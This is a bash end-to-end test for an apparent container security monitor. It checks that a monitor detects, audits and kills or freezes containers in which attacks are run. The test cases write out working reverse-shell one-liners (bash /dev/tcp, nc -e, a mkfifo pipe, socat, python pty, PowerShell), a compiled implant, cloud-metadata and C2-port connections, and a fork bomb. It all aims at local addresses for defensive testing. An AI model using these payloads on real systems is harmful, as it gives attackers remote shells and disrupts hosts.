#!/bin/bash
# SPDX-License-Identifier: MIT
# Every CRITICAL rule, against a real container watched by a real detached monitor: the container
# is stopped and deleted (nothing left, not even its cgroup), the audit line names the rule with
# action "killed", and the supervisor exits by itself. Network traffic stays on this machine:
# the bridge address, or addresses the container puts on its own loopback.
. "$(dirname "$0")/monitor-lib.sh"

# A compiled reverse shell whose command line gives nothing away (revshell-stdio).
implant="$COI_HOME/implant"
cc -static -O1 -o "$implant" "$T_ROOT/tests/e2e/monitor-implant.c" || t_bail "cannot build the implant"

# name ^ script the agent runs ^ rule. Busybox's sh has no /dev/tcp, so that attack fails at once
# and its shell would be gone before anyone could read its command line; in bash it lives as long
# as its connection. The `; sleep 1` stands in for that life.
cases=(
    "devtcp^sh -i >& /dev/tcp/$GW/4444 0>&1; sleep 1^revshell-devtcp"
    "netcat^(sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; nc -e /bin/sh 127.0.0.1 4444^revshell-netcat"
    "pipe^rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc $GW 4444 >/tmp/f^revshell-pipe"
    "socat^socat TCP:$GW:4444 EXEC:/bin/sh,pty,stderr^revshell-socat"
    "python^python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"$GW\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'^revshell-oneliner"
    "pwsh^pwsh -c \"\$c=New-Object System.Net.Sockets.TCPClient('$GW',4444)\"^revshell-powershell"
    "implant^(sleep 5 | nc -l -p 9000 >/dev/null &); usleep 300000; /tmp/implant 9000^revshell-stdio"
    "c2port^ip addr add 198.51.100.7/32 dev lo; (sleep 5 | nc -l -p 4444 >/dev/null &); usleep 300000; /tmp/implant 4444 198.51.100.7 hold^net-c2-port"
    "metadata^ip addr add 169.254.169.254/32 dev lo; (sleep 5 | nc -l -p 80 >/dev/null &); usleep 300000; /tmp/implant 80 169.254.169.254 hold^net-metadata"
)

for case in "${cases[@]}"; do
    IFS='^' read -r what script rule <<<"$case"
    c=$(t_name monitor)
    t_defer "incus delete -f $c"
    m_launch "$c" || t_bail "cannot launch $c"
    opts=()
    # the connecting client of c2port and metadata too: see monitor-implant.c
    case $what in implant | c2port | metadata) m_client "$c" ;; esac
    t_ok "$what: monitor starts" m_monitor "$c" "${opts[@]}"
    m_run "$c" "$script"
    t_ok "$what: the container is gone" m_wait_state "$c" ""
    t_fails "$what: no cgroup left" test -d "/sys/fs/cgroup/pids/lxc.payload.$c"
    # The line is written once the delete returns, which can take long after the instance has
    # left the list (its storage goes last; CI once waited more than 10 s).
    line=$(m_wait_rule "$c" "$rule" 300)
    t_like "$what: audit line $rule, killed" "$line" '"level":"critical".*"action":"killed"'
    [ -n "$line" ] || t_diag "$what: audit log:" "$(m_audit "$c" | jq -c '[.rule, .level, .action, .description]')"
    t_ok "$what: the supervisor ended by itself" m_supervisor_gone "$c"
    t_diag "$what: frozen $(printf '%s' "$line" | jq -r '"\(.contained_ms) ms, gone \(.response_ms) ms: \(.description)"')"
done

# busybox is the tiny image's shell and also its nc, sleep and wget: one file under many names.
# A busybox program that starts holding a connection is no shell; a busybox shell that does is
# one. The monitor once learned busybox as /bin/ash (a squashfs lists it before /bin/busybox), so
# every busybox program was a shell, and a busybox nc read after it connected killed its
# container (revshell-sockfd). The sleep comes first: events are judged in order, so the shell's
# finding, which ends the container, comes after the sleep was judged.
c=$(t_name monitor)
t_defer "incus delete -f $c"
m_launch "$c" || t_bail "cannot launch $c"
m_client "$c" || t_bail "cannot put the test client into $c"
t_ok "busybox: monitor starts" m_monitor "$c"
m_run "$c" "ip addr add 198.51.100.9/32 dev lo; for p in 8080 8081; do (sleep 6 | nc -l -p \$p >/dev/null &); done; usleep 300000
    /tmp/implant 8080 198.51.100.9 exec /bin/sleep 1; /tmp/implant 8081 198.51.100.9 exec /bin/sh -c 'sleep 1; true'"
line=$(m_wait_rule "$c" revshell-sockfd 300)
t_like "busybox: its shell holding a connection is revshell-sockfd, killed" "$line" '"level":"critical".*"action":"killed"'
t_is "busybox: ... and its sleep holding one is not" "$(printf '%s' "$line" | jq -r .evidence.process.command)" "/bin/sh -c sleep 1; true"
[ -n "$line" ] || t_diag "busybox: audit log:" "$(m_audit "$c" | jq -c '[.rule, .level, .action, .description]')"
incus delete -f "$c" >/dev/null 2>&1

# Processes: a fork bomb is HIGH (frozen: it stops multiplying at once, and is there to be
# looked at); too many processes alone, a runaway build, only a WARNING.
c=$(t_name monitor)
t_defer "incus delete -f $c"
m_launch "$c" || t_bail "cannot launch $c"
t_ok "forkbomb: monitor starts" m_monitor "$c"
m_run "$c" "f() { f | f & }; f" &
t_ok "forkbomb: the container is frozen, not removed" m_wait_state "$c" FROZEN
line=$(m_wait_rule "$c" proc-forkbomb)
t_like "forkbomb: audit line proc-forkbomb, high, paused" "$line" '"level":"high".*"title":"Fork bomb detected".*"action":"paused"'
t_like "forkbomb: it says how deep the copies went" "$line" 'generations'
incus delete -f "$c" >/dev/null 2>&1
wait

c=$(t_name monitor)
t_defer "incus delete -f $c"
m_launch "$c" || t_bail "cannot launch $c"
t_ok "count: monitor starts" m_monitor "$c" --max-processes 30
m_run "$c" "i=0; while [ \$i -lt 40 ]; do sleep 20 & i=\$((i+1)); usleep 50000; done"
line=$(m_wait_rule "$c" proc-count)
t_like "count: audit line proc-count, a warning" "$line" '"level":"warning".*"action":"alerted"'
t_is "count: the container keeps running" "$(m_state "$c")" RUNNING

t_done
